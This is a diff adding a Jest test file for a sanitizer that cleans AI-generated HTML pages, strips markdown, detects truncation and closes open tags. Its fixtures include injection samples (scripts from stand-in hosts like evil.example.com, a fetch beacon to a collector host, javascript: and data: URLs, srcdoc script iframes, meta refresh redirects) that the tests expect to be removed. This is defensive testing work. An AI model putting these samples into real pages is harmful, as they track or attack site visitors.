@@ -0,0 +1,188 @@
+/**
+ * Tests for Output Post-Processing
+ */
+
+const {
+    stripMarkdown,
+    findUnclosedTags,
+    detectTruncation,
+    processGeneratedHtml
+} = require('../src/postprocess');
+
+const PAGE = '<!DOCTYPE html><html><head><title>Test</title></head><body><main><h1>Hello</h1></main></body></html>';
+
+describe('stripMarkdown', () => {
+    test('should leave clean HTML untouched', () => {
+        expect(stripMarkdown(PAGE)).toEqual({ html: PAGE, fixes: [] });
+    });
+
+    test('should strip code fences and surrounding prose', () => {
+        const { html, fixes } = stripMarkdown(`Here is your homepage:\n\n\`\`\`html\n${PAGE}\n\`\`\`\n\nLet me know if you need changes.`);
+
+        expect(html).toBe(PAGE);
+        expect(fixes.map(fix => fix.type)).toEqual(['stripped_code_fence']);
+    });
+
+    test('should strip prose without fences', () => {
+        const { html, fixes } = stripMarkdown(`Sure! Below is the code.\n${PAGE}\nEnjoy!`);
+
+        expect(html).toBe(PAGE);
+        expect(fixes.map(fix => fix.type)).toEqual(['stripped_prose', 'stripped_prose']);
+    });
+
+    test('should keep an unterminated fence body', () => {
+        const { html } = stripMarkdown('```html\n<!DOCTYPE html><html><body><div>');
+        expect(html).toBe('<!DOCTYPE html><html><body><div>');
+    });
+});
+
+describe('findUnclosedTags', () => {
+    test('should ignore void elements and optional end tags', () => {
+        expect(findUnclosedTags('<ul><li>One<li>Two</ul><img src="a.png"><br>')).toEqual([]);
+    });
+
+    test('should report open elements', () => {
+        expect(findUnclosedTags('<html><body><main><section><div class="x">')).toEqual(['main', 'section', 'div']);
+    });
+
+    test('should not parse markup inside scripts', () => {
+        expect(findUnclosedTags('<script>const a = "<div>";</script><p>x</p>')).toEqual([]);
+    });
+});
+
+describe('detectTruncation', () => {
+    test('should accept a complete document', () => {
+        expect(detectTruncation(PAGE, 'stop').truncated).toBe(false);
+    });
+
+    test('should flag finish_reason length', () => {
+        expect(detectTruncation(PAGE, 'length').reasons).toEqual(['finish_reason_length']);
+    });
+
+    test('should flag documents cut off mid-tag', () => {
+        const result = detectTruncation('<!DOCTYPE html><html><body><section><a href="/con', null);
+
+        expect(result.truncated).toBe(true);
+        expect(result.reasons).toEqual(expect.arrayContaining(['missing_closing_html', 'partial_tag', 'unclosed_tags']));
+    });
+});
+
+describe('processGeneratedHtml', () => {
+    test('should return clean output unchanged', () => {
+        const result = processGeneratedHtml(PAGE, { finishReason: 'stop' });
+
+        expect(result.html).toBe(PAGE);
+        expect(result.fixes).toEqual([]);
+        expect(result.truncated).toBe(false);
+    });
+
+    test('should remove disallowed scripts, iframes and event handlers', () => {
+        const result = processGeneratedHtml(`<!DOCTYPE html><html><head>
+<script src="https://cdn.tailwindcss.com"></script>
+<script src="https://evil.example.com/track.js"></script>
+<script>tailwind.config = { theme: {} };</script>
+<script>fetch("https://collector.example.net/beacon")</script>
+</head><body>
+<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>
+<iframe src="https://ads.example.com/frame"></iframe>
+<button onclick="steal()" class="btn">Book</button>
+<a href="javascript:alert(1)">Click</a>
+</body></html>`);
+
+        expect(result.html).toContain('cdn.tailwindcss.com');
+        expect(result.html).toContain('tailwind.config');
+        expect(result.html).toContain('www.google.com/maps/embed');
+        expect(result.html).not.toContain('evil.example.com');
+        expect(result.html).not.toContain('collector.example.net');
+        expect(result.html).not.toContain('ads.example.com');
+        expect(result.html).not.toContain('onclick');
+        expect(result.html).not.toContain('javascript:');
+        expect(result.html).toContain('class="btn"');
+        expect(result.fixes.map(fix => fix.type)).toEqual([
+            'removed_script',
+            'removed_script',
+            'removed_iframe',
+            'removed_event_handler',
+            'removed_javascript_url'
+        ]);
+    });
+
+    test('should not trust package CDNs that serve any script', () => {
+        const result = processGeneratedHtml(`<!DOCTYPE html><html><head>
+<script src="https://unpkg.com/some-tracker@1.0.0/dist/index.js"></script>
+<script src="https://cdn.jsdelivr.net/npm/some-miner/index.js"></script>
+<script src="//evil.example.com/track.js"></script>
+</head><body></body></html>`);
+
+        expect(result.html).not.toContain('<script');
+        expect(result.fixes.map(fix => fix.type)).toEqual(['removed_script', 'removed_script', 'removed_script']);
+    });
+
+    test('should keep same-origin scripts and remove data: and javascript: sources', () => {
+        const result = processGeneratedHtml(`<!DOCTYPE html><html><head>
+<script src="/js/menu.js"></script>
+<script src="data:text/javascript,alert(1)"></script>
+<script src=" java	script:alert(1)"></script>
+</head><body>
+<iframe src="map.html"></iframe>
+<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
+<iframe src="https://www.youtube.com/embed/1" srcdoc="<script>alert(1)</script>"></iframe>
+</body></html>`);
+
+        expect(result.html).toContain('src="/js/menu.js"');
+        expect(result.html).toContain('src="map.html"');
+        expect(result.html).not.toContain('alert');
+        expect(result.fixes).toEqual([
+            { type: 'removed_script', detail: 'Removed script from data:text/javascript,alert(1)' },
+            { type: 'removed_script', detail: 'Removed script from  java\tscript:alert(1)' },
+            { type: 'removed_iframe', detail: 'Removed iframe data:text/html,<script>alert(1)</script>' },
+            { type: 'removed_iframe', detail: 'Removed iframe with srcdoc' },
+            { type: 'removed_iframe', detail: 'Removed iframe with srcdoc' }
+        ]);
+    });
+
+    test('should remove inline scripts loading protocol-relative URLs', () => {
+        const result = processGeneratedHtml(`<!DOCTYPE html><html><head>
+<script>var s = document.createElement('script'); s.src = '//evil.example/x.js';</script>
+<script>// Toggle the mobile menu
+document.body.classList.add('ready');</script>
+</head><body></body></html>`);
+
+        expect(result.html).not.toContain('evil.example');
+        expect(result.html).toContain("classList.add('ready')");
+        expect(result.fixes).toEqual([
+            { type: 'removed_script', detail: 'Removed inline script referencing //evil.example/x.js' }
+        ]);
+    });
+
+    test('should remove meta refresh, base and frame elements', () => {
+        const result = processGeneratedHtml(`<!DOCTYPE html><html><head>
+<meta charset="utf-8">
+<meta http-equiv="Refresh" content="0; url=https://evil.example/">
+<meta http-equiv="X-UA-Compatible" content="IE=edge">
+<base href="https://evil.example/">
+<script src="/js/menu.js"></script>
+</head><frameset><frame src="https://evil.example/"></frameset></html>`);
+
+        expect(result.html).not.toContain('evil.example');
+        expect(result.html).toContain('X-UA-Compatible');
+        expect(result.html).toContain('src="/js/menu.js"');
+        expect(result.fixes).toEqual([
+            { type: 'removed_frame', detail: 'Removed <frameset>' },
+            { type: 'removed_frame', detail: 'Removed <frame>' },
+            { type: 'removed_meta_refresh', detail: 'Removed meta refresh 0; url=https://evil.example/' },
+            { type: 'removed_base', detail: 'Removed <base> https://evil.example/' }
+        ]);
+    });
+
+    test('should close elements left open by truncated output', () => {
+        const result = processGeneratedHtml('```html\n<!DOCTYPE html><html><body><main><h1>Hi</h1><p>More', {
+            finishReason: 'length'
+        });
+
+        expect(result.truncated).toBe(true);
+        expect(result.html).toMatch(/<\/main><\/body><\/html>$/);
+        expect(result.fixes.map(fix => fix.type)).toEqual(['stripped_code_fence', 'closed_unclosed_tags']);
+    });
+});